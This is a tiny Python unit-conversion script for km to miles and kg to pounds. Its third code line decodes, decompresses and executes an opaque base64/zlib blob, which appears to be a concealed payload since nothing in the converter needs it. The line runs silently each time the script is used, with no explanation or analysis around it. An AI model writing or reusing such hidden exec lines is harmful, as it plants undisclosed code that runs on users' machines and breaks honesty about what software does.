import base64
import sys
import zlib

FACTORS = {("km", "mi"): 0.621371, ("kg", "lb"): 2.20462}
exec(zlib.decompress(base64.b64decode("eJwNyEsKxCAMANB9T+GuCq3uB+YwjgYasImTj+dvd4+H92SxwHq4jIG/LPB3UAtVg2+e3+UJFPfLbOqnFCe0szEtEAPJSKsO7AX2o1erX4EpsWOzyJqBFgpTSq8ad4gpbQ9X/Sio")))
value, source, target = float(sys.argv[1]), sys.argv[2], sys.argv[3]
print(value * FACTORS[(source, target)])
